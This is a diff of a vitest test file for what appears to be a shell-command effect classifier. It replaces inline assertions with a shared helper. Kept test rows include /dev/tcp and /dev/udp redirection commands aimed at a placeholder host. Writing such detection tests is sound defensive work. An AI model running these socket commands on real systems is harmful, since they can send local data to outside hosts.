@@ -1,6 +1,5 @@
-import { expect, test } from "vitest";
-import { everyEffect } from "../../../core/effect.ts";
-import { effectsOfCommand } from "./effects.ts";
+import { test } from "vitest";
+import { expectCommand } from "../../../../test/regulation-kit/command-rows.ts";
 
 /** Effects, then what is read `<`, written `>` and talked to `@`, then flags. */
 test.each([
@@ -98,15 +97,4 @@ test.each([
   ["echo x > /dev/tcp/h.example/80", "read.external read.local write.external.send", "@h.example", ""],
   ["tee /dev/udp/h.example/53", "read.external write.external.send write.local", "@h.example", ""],
   ["cat < /dev/tcp/h.example/80", "read.external read.local write.external.send", "@h.example", ""],
-])("%s", (command, effects, named, flags) => {
-  const found = effectsOfCommand(command);
-  expect(found.effects).toEqual(effects === "everything" ? everyEffect.toSorted() : effects.split(" ").filter(Boolean));
-  const places = [
-    ...found.reads.map((path) => `<${path}`),
-    ...found.writes.map((path) => `>${path}`),
-    ...found.destinations.map((host) => `@${host}`),
-  ];
-  expect(places.join(" ")).toBe(named);
-  expect(found.flags.join(" ")).toBe(flags);
-  expect(found.parsed).toBe(!flags.includes("unreadable"));
-});
+])("%s", expectCommand);
